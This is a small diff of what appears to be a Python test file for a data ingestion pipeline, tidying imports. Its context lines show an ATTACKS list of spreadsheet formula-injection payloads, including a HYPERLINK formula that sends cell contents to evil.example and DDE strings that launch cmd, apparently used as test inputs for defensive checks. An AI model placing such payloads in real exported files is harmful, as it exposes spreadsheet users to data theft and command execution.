@@ -2,7 +2,6 @@
 
 import csv
 import io
-import shutil
 import zipfile
 
 import pandas as pd
@@ -14,7 +13,7 @@ from pipeline.cli import main
 from pipeline.config import DataPaths
 from pipeline.ingest import ingest
 from pipeline.store import Store
-from tests.conftest import SEED
+from tests.helpers import SEED
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
